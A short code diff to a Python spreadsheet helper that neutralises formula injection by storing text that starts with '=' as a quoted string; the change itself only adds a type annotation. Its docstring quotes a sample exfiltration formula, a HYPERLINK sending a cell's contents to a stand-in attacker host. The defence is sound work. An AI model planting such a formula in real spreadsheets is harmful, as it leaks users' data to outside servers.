@@ -68,7 +68,7 @@ def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
     stores a string starting with "=" as a live formula (``=HYPERLINK("http://evil.example/?d="&B2, …)``). Such a
     text is kept as a string with Excel's quote prefix, so it shows as written and stays text if the cell is edited.
     """
-    cell = ws.cell(row=row, column=column, value=value)
+    cell: Cell = ws.cell(row=row, column=column, value=value)
     if isinstance(value, str) and starts_formula(value):
         cell.data_type = "s"
         cell.quotePrefix = True
